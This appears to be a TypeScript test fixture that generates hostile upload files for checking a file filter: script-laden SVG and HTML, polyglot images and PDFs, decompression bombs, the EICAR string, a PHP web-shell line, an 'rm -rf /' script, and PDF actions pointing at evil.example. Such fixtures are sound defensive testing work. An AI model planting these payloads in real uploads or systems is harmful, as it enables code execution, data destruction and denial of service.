import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'

/** What somebody might hand in to have it run, shown or choked on. */
export type HostileFile = { name: string; bytes: Buffer }

/** What must be in nothing that is kept. */
export const payload = '<script>alert("ran")</script>'
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const php = '<?php system($_GET["c"]); ?>'

const latin = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')

/** Noise that is the same each time. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length)
  for (let at = 0, state = 1; at < length; at++) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648
    bytes[at] = state >> 16
  }
  return bytes
}

const picture = () =>
  sharp(noise(64 * 48 * 3), { raw: { width: 64, height: 48, channels: 3 } }).withMetadata()

function chunk(type: string, data: Buffer): Buffer {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type), data])))
  return latin(length, type, data, sum)
}

const pngStart = hex('89504e470d0a1a0a')
function pngHeader(width: number, height: number): Buffer {
  const size = Buffer.alloc(8)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  return latin(pngStart, chunk('IHDR', Buffer.concat([size, hex('08 02 00 00 00')])))
}
/** Puts a chunk before the pixels of a PNG. */
const withChunk = (png: Buffer, type: string, data: Buffer) =>
  latin(png.subarray(0, 33), chunk(type, data), png.subarray(33))
/** Puts a segment behind the first two bytes of a JPEG. */
function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(data.length + 2)
  return latin(jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, data, jpeg.subarray(2))
}
/** Adds a chunk to a WebP and counts it in. */
function withRiff(webp: Buffer, type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32LE(data.length)
  const all = latin(webp, type, length, data)
  all.writeUInt32LE(all.length - 8, 4)
  return all
}

const zip = latin(hex('504b0304 1400 0000 0000'), 'evil.html', payload, hex('504b0506'), Buffer.alloc(18))
const pdf = (inside: string, tail = '%%EOF\n') => latin(`%PDF-1.7\n1 0 obj\n<< ${inside} >>\nendobj\n${tail}`)
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${payload}</svg>`
const entities = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>`

/** Files of other kinds, whatever they are called. */
const otherKinds: [string, Buffer][] = [
  ['svg', latin(svg)],
  ['svg with a prolog', latin(`<?xml version="1.0"?>${svg}`)],
  ['svg behind a mark of its encoding', latin('\xef\xbb\xbf', svg)],
  ['svg in two bytes a character', Buffer.from(svg, 'utf16le')],
  ['svg packed', gzipSync(svg)],
  ['svg of growing entities', latin(entities)],
  ['svg behind spaces', latin(' \n\t', svg)],
  ['svg that includes a file', latin('<svg><image href="file:///etc/passwd"/></svg>')],
  ['html', latin(`<!doctype html>${payload}`)],
  ['html without a type', latin(payload)],
  ['html in capitals', latin('<HTML><BODY ONLOAD=alert(1)>')],
  ['html behind a comment', latin(`<!-- GIF89a -->${payload}`)],
  ['xhtml', latin('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>')],
  ['mhtml', latin('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n', payload)],
  ['html that begins like a gif', latin('GIF89a/*', payload)],
  ['script that begins like a bitmap', latin('BM=1;alert(1)//')],
  ['javascript', latin('alert(1)')],
  ['style sheet', latin('@import "https://evil.example"')],
  ['xsl', latin('<xsl:stylesheet version="1.0"/>')],
  ['gif', latin('GIF89a', hex('0100 0100 80 00 00 000000 ffffff 2c00000000010001000002024401003b'))],
  ['bitmap', latin('BM', Buffer.alloc(60))],
  ['tiff', latin('II*\0', Buffer.alloc(60))],
  ['icon', latin(hex('00000100 0100'), Buffer.alloc(30))],
  ['avif', latin(hex('0000001c'), 'ftypavif', Buffer.alloc(40))],
  ['video', latin(hex('0000001c'), 'ftypisom', Buffer.alloc(40))],
  ['postscript', latin('%!PS-Adobe-3.0\n(ls) run')],
  ['program for windows', latin('MZ', Buffer.alloc(60))],
  ['program for linux', latin('\x7fELF', Buffer.alloc(60))],
  ['program for mac', latin(hex('cffaedfe'), Buffer.alloc(60))],
  ['java class', latin(hex('cafebabe'), Buffer.alloc(60))],
  ['wasm', latin('\0asm', hex('01000000'))],
  ['shell script', latin('#!/bin/sh\nrm -rf /\n')],
  ['php', latin(php)],
  ['shortcut', latin(hex('4c000000 01140200'), Buffer.alloc(60))],
  ['zip', zip],
  ['gzip', gzipSync(Buffer.alloc(1_000))],
  ['seven zip', latin('7z\xbc\xaf\x27\x1c', Buffer.alloc(30))],
  ['test virus', latin(eicar)],
  ['rich text', latin('{\\rtf1 {\\object}}')],
  ['nothing', Buffer.alloc(0)],
  ['one byte', hex('ff')],
  ['zeros', Buffer.alloc(10_000)],
  ['noise', noise(10_000)],
  ['sound in the coat of a webp', latin('RIFF', hex('24000000'), 'WAVEfmt ', Buffer.alloc(30))],
]

/** Files that begin as the kinds that are taken and do not go on so. */
const broken: [string, Buffer][] = [
  ['jpeg of three bytes', hex('ffd8ff')],
  ['png of eight bytes', pngStart],
  ['webp of twelve bytes', latin('RIFF', hex('04000000'), 'WEBP')],
  ['pdf of five bytes', latin('%PDF-')],
  ['svg behind the mark of a jpeg', latin(hex('ffd8ffe0'), svg)],
  ['html behind the mark of a jpeg', latin(hex('ffd8ffe0'), '<html>', payload)],
  ['html behind the mark of a png', latin(pngStart, '<html>', payload)],
  ['html behind the mark of a webp', latin('RIFF', hex('00100000'), 'WEBP', payload)],
  ['noise behind the mark of a jpeg', latin(hex('ffd8ffe0'), noise(5_000))],
  ['noise behind the mark of a png', latin(pngHeader(64, 48), noise(5_000))],
  ['noise behind the mark of a webp', latin('RIFF', hex('88130000'), 'WEBPVP8 ', noise(5_000))],
  [
    'png of 50 000 squared',
    latin(pngHeader(50_000, 50_000), chunk('IDAT', deflateSync(Buffer.alloc(1_000)))),
  ],
  ['png of no width', latin(pngHeader(0, 48), chunk('IDAT', deflateSync(Buffer.alloc(100))))],
  ['png of the widest number', latin(pngHeader(0x7fffffff, 0x7fffffff))],
  ['jpeg of 65 500 squared', hex('ffd8ffc0 0011 08 ffdc ffdc 03 011100 021100 031100 ffd9')],
  ['more than ten megabytes', latin(hex('ffd8ff'), Buffer.alloc(10 * 1024 * 1024))],
]

/** PDFs that do more than show pages, or are something else besides. */
const actingPdfs: [string, Buffer][] = [
  ['pdf with a script', pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
  ['pdf with a script by another spelling', pdf('/OpenAction << /S /J#61vaScr#69pt /#4aS (x) >>')],
  ['pdf that starts a program', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['pdf that carries a file', pdf('/Names << /EmbeddedFiles 5 0 R >>')],
  ['pdf that acts when opened', pdf('/AA << /O 3 0 R >>')],
  ['pdf that plays', pdf('/Subtype /RichMedia')],
  ['pdf that sends a form', pdf('/S /SubmitForm /F (https://evil.example)')],
  ['pdf that opens another file', pdf('/S /GoToR /F (\\\\\\\\evil\\\\share)')],
  ['pdf with a form of its own language', pdf('/AcroForm << /XFA 4 0 R >>')],
  ['pdf that begins as html', latin('%PDF-1.7\n<html>', payload, '\n%%EOF')],
  ['pdf behind html', latin('<html>', pdf(''))],
  ['pdf and zip', pdf('', latin('%%EOF\n', zip).toString('latin1'))],
  ['pdf and zip whose end says it is none', latin(pdf(''), zip, '%%EOF')],
  ['pdf before a page', pdf('', `%%EOF\n${payload}${' '.repeat(200)}`)],
  ['pdf cut off', latin('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n')],
  ['pdf of no version', latin('%PDF-x.y\n%%EOF')],
]

/** Pictures that are whole and carry something, or much more than their size tells. */
async function makePictures(): Promise<[string, Buffer][]> {
  const [jpeg, png, webp] = await Promise.all([
    picture().jpeg().toBuffer(),
    picture().png().toBuffer(),
    picture().webp().toBuffer(),
  ])
  const white = { width: 10_000, height: 5_000, channels: 3 as const, background: 'white' }
  const many = await sharp({ create: white, limitInputPixels: false }).png({ compressionLevel: 9 }).toBuffer()
  const artist = { IFD0: { Artist: payload, Copyright: php } }
  return [
    ['jpeg with html behind it', latin(jpeg, payload)],
    ['jpeg with a page in its comment', withSegment(jpeg, 0xfe, latin(payload))],
    ['jpeg with php in its comment', withSegment(jpeg, 0xfe, latin(php, payload))],
    ['jpeg with a page as its author', await picture().withExif(artist).jpeg().toBuffer()],
    ['jpeg with noise as its colours', withSegment(jpeg, 0xe2, latin('ICC_PROFILE\0\x01\x01', payload))],
    ['jpeg with noise as its camera', withSegment(jpeg, 0xe1, latin('Exif\0\0II*\0', noise(500), payload))],
    ['jpeg with an address of its own', withSegment(jpeg, 0xed, latin('Photoshop 3.0\0', payload))],
    ['jpeg and zip', latin(jpeg, zip)],
    ['jpeg and test virus', latin(jpeg, eicar, payload)],
    ['jpeg cut off', jpeg.subarray(0, jpeg.length / 2)],
    ['jpeg without pixels', latin(jpeg.subarray(0, 200), hex('ffd9'))],
    ['png with a page in its text', withChunk(png, 'tEXt', latin('Comment\0', payload))],
    ['png with a page behind it', latin(png, '<html>', payload)],
    ['png and zip', latin(png, zip)],
    ['png whose text grows', withChunk(png, 'zTXt', latin('a\0\0', deflateSync(Buffer.alloc(60_000_000))))],
    ['png whose colours grow', withChunk(png, 'iCCP', latin('a\0\0', deflateSync(Buffer.alloc(30_000_000))))],
    ['png cut off', png.subarray(0, png.length / 2)],
    ['png with another sum', latin(png.subarray(0, 29), hex('00000000'), png.subarray(33))],
    ['png called a jpeg inside', latin(hex('ffd8ff'), png)],
    ['png of 50 million white pixels', many],
    ['webp with a page in its description', withRiff(webp, 'XMP ', latin(payload))],
    ['webp with php behind it', latin(webp, php, payload)],
    ['webp cut off', webp.subarray(0, webp.length / 2)],
    ['webp that claims to be longer', withRiff(webp, 'JUNK', noise(501)).subarray(0, webp.length + 20)],
  ]
}

export async function makeHostileFiles(): Promise<HostileFile[]> {
  const all = [...otherKinds, ...broken, ...actingPdfs, ...(await makePictures())]
  return all.map(([name, bytes]) => ({ name, bytes }))
}
